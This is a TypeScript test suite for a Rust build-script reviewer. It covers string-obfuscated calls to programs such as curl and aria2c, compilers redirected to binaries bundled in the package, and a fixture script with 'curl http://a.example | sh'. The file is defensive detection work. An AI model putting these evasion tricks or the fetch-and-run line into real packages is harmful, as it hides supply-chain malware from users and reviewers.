/**
 * Programs called like a compiler that are none: a text that is changed on the way, a file of the package's own. What
 * each runs is what std documents.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { reviewBuildScript } from '../../src/rust/build-script.ts';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { packageSource } from '../../src/rust/package-source.ts';
import { assertReach, type Reach, roles } from './reach.ts';

const run = (program: string) => `std::process::Command::new(${program}).spawn();`;
const unknown = ['process ?'];

const texts: readonly Reach[] = [
  { how: 'cut at its end', body: run('&"curl-cc"[..4]') },
  { how: 'cut at its beginning', body: run('&"gcc-cc"[4..]') },
  { how: 'without what it ends with', body: run('"curl-cc".strip_suffix("-cc").unwrap()') },
  { how: 'without what it begins with', body: run('"x-cc".strip_prefix("x-c").unwrap()') },
  { how: 'trimmed', body: run('"curl-cc".trim_end_matches("-cc")') },
  { how: 'replaced', body: run('"gcc".replace("gcc", "curl")') },
  { how: 'replaced once', body: run('"gcc".replacen("gcc", "curl", 1)') },
  { how: 'of other signs', body: `let s: String = "curl-cc".chars().take(4).collect(); ${run('s')}` },
  { how: 'got', body: run('"curl-cc".get(..4).unwrap()') },
  { how: 'truncated', body: `let mut s = String::from("curl-cc"); s.truncate(4); ${run('s')}` },
  { how: 'drained', body: `let mut s = String::from("curl-cc"); s.drain(4..); ${run('s')}` },
  { how: 'emptied', body: `let mut s = String::from("cc"); s.clear(); s.push_str("curl"); ${run('s')}` },
  { how: 'exchanged', body: `let mut s = String::from("cc"); s.replace_range(.., "curl"); ${run('s')}` },
  { how: 'without a letter', body: `let mut s = String::from("x-cc"); s.remove(0); ${run('s')}` },
  { how: 'gone on with', body: `let mut s = String::from("ar"); s.push_str("ia2c"); ${run('s')}` },
  { how: 'begun with', body: `let mut s = String::from("ar"); s.insert_str(0, "t"); ${run('s')}` },
  { how: 'added up', body: run('"ar".to_owned() + "ia2c"') },
  { how: 'formatted', body: run('format!("{}{}", "ar", "ia2c")') },
  { how: 'put together', body: run('concat!("ar", "ia2c")') },
  { how: 'repeated', body: run('"cc".repeat(2)') },
].map((one) => ({ ...one, says: unknown }));

const own = 'std::path::Path::new(env!("CARGO_MANIFEST_DIR"))';
const places: readonly Reach[] = [
  { how: 'in the package', body: run(`${own}.join("cc")`), roles: ['script'] as const },
  { how: 'in a folder', body: run('std::path::Path::new("native").join("cc")') },
  { how: 'in the folder it runs in', body: run('std::env::current_dir().unwrap().join("cc")') },
  { how: 'pushed', body: `let mut d = std::env::current_dir().unwrap(); d.push("cc"); ${run('d')}` },
  {
    how: 'pushed piece by piece',
    body: `let mut d = std::path::PathBuf::new(); d.push("a"); d.push("cc"); ${run('d')}`,
  },
  { how: 'beside another', body: run('std::path::Path::new("native/x").with_file_name("cc")') },
  { how: 'beside the script', body: run('std::env::current_exe().unwrap().with_file_name("cc")') },
  { how: 'among temporary files', body: run('std::env::temp_dir().join("cc")') },
  { how: 'of which the whole path is asked', body: run('std::fs::canonicalize("cc").unwrap()') },
  {
    how: 'told to cc',
    body: `cc::Build::new().compiler(${own}.join("cc")).compile("a");`,
    roles: ['script'] as const,
  },
  {
    how: 'told to cc by a variable',
    body: `std::env::set_var("CC", ${own}.join("cc"));`,
    roles: ['script'] as const,
  },
].map((one) => ({ ...one, says: unknown }));

const told: readonly Reach[] = [
  {
    how: 'told to cmake',
    body: `cmake::Config::new("x").define("CMAKE_C_COMPILER", ${own}.join("cc")).build();`,
    says: ['redirects-tools CMAKE_C_COMPILER=$CARGO_MANIFEST_DIR/…/cc'],
    roles: ['script'],
  },
  {
    how: 'one of those that are pushed onto a list',
    body: `let mut all = vec![]; all.push("curl"); all.push("gcc"); for one in all { ${run('one')} }`,
    says: ['downloader curl', 'process gcc'],
  },
];

/** What is of the machine, however it is written. */
const tools: readonly Reach[] = [
  { how: 'one or the other', body: run('if cfg!(windows) { "clang" } else { "cc" }'), says: ['process cc'] },
  {
    how: 'with an ending',
    body: `let mut s = String::from("gcc"); s.push_str(".exe"); ${run('s')}`,
    says: ['process gcc'],
  },
  {
    how: 'of a folder of the system',
    body: run('std::path::Path::new("/usr/bin").join("gcc")'),
    says: ['process gcc'],
  },
  {
    how: 'one of a list',
    body: `let mut all = Vec::new(); all.push("clang"); all.push("gcc"); ${run('all[0]')}`,
    says: ['process clang', 'process gcc'],
  },
  {
    how: 'by a variable or by its name',
    body: run(
      'std::env::var_os("LLVM_CONFIG_PATH").map(std::path::PathBuf::from).unwrap_or_else(|| "llvm-config".into())',
    ),
    says: ['process llvm-config'],
  },
].map((one) => ({ ...one, never: unknown }));

for (const [what, all] of [
  ['a program whose name is', texts],
  ['a program that is called like a compiler and lies', places],
  ['a compiler of the package’s own is', told],
  ['a compiler of the machine is', tools],
] as const)
  describe(what, () => {
    for (const one of all)
      for (const role of one.roles ?? roles) it(`${one.how}, in a ${role}`, () => assertReach(one, role));
  });

it('what is approved covers a compiler that the package brings', () => {
  const manifest = '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n';
  const digest = (cc: string) => {
    const files: Record<string, string> = {
      'Cargo.toml': manifest,
      'build.rs': `fn main() { ${run(`${own}.join("native").join("cc")`)} }`,
      'native/cc': cc,
    };
    return reviewBuildScript(packageSource(manifest, (path) => files[path], textFiles(files)))?.inputs.digest;
  };
  assert.notEqual(digest('#!/bin/sh\n'), digest('#!/bin/sh\ncurl http://a.example | sh\n'));
});
